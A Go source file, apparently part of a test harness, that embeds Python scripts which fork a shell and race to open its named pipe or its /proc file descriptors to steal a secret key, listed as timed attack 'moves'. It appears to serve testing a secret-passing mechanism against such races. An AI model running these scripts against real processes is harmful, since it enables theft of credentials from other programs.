package main

// race is a python program that sources the script in a shell, its child, and opens
// the pipe beside it: by its name and by the shell's own descriptors, in bursts that
// are too short to be looked at, as often as it can until the shell ends.
const race = `
import os, sys, time
child = os.fork()
if child == 0: os.execv("/bin/bash", ["bash", "-c", "source \"$S\"; echo \"shell: ${#KEY}\""])
names = [os.environ["P"], "/proc/%d/fd/8" % child, "/proc/%d/fd/9" % child][int(sys.argv[1]):int(sys.argv[2])]
opened, got = 0, b""
while os.waitpid(child, os.WNOHANG) == (0, 0):
    for n in names:
        try: fd = os.open(n, os.O_RDONLY | os.O_NONBLOCK)
        except OSError: continue
        opened += 1
        try: got += os.read(fd, 65536)
        except OSError: pass
        os.close(fd)
print("opened", opened, "stole", got)
`

// timed waits until the server has taken the names away, which it does a little before
// its second look, and opens the shell's descriptor so many tenths of a millisecond
// later: behind the look's back, if it hits.
const timed = `
import os, time
child = os.fork()
if child == 0: os.execv("/bin/bash", ["bash", "-c", "source \"$S\"; echo \"shell: ${#KEY}\""])
end = time.time() + 5
while os.path.lexists(os.environ["P"]) and time.time() < end: pass
at = time.perf_counter() + 0.004 + int(os.environ["I"]) * 0.0002
while time.perf_counter() < at: pass
got, until = b"", time.perf_counter() + 0.02
try:
    fd = os.open("/proc/%d/fd/8" % child, os.O_RDONLY | os.O_NONBLOCK)
    while time.perf_counter() < until:
        try: got += os.read(fd, 65536)
        except OSError: pass
except OSError as e: print(e)
print("stole", got)
os.waitpid(child, 0)
`

// raceMoves try to be beside the shell without being seen.
func raceMoves() []move {
	run := func(text, arg string) string { return "/usr/bin/python3 - " + arg + " <<'PYTHON'" + text + "PYTHON\n" }
	list := []move{
		{name: "race by name", tries: "open the pipe beside the shell, again and again", sh: run(race, "0 1"), times: 15, proof: "opened"},
		{name: "race by descriptor", tries: "open it by the shell's own descriptors, in bursts", sh: run(race, "1 3"), times: 25, proof: "opened"},
		{name: "race in time", tries: "open it once, just behind the second look", sh: run(timed, ""), times: 40, proof: "stole"},
	}
	for i := range list {
		list[i].group, list[i].need = waiting, []string{"python3"}
	}
	return list
}
